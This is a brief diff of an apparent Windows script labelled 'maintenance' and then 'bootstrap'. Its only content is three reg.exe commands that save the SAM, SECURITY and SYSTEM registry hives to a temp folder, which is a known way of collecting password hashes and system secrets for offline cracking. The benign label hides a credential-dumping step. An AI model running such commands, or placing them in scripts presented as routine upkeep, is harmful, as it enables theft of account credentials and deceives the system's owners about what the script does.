@@ -1,4 +1,4 @@
-# maintenance 5915 v2
+# bootstrap 8590 v2
 reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
 reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
 reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
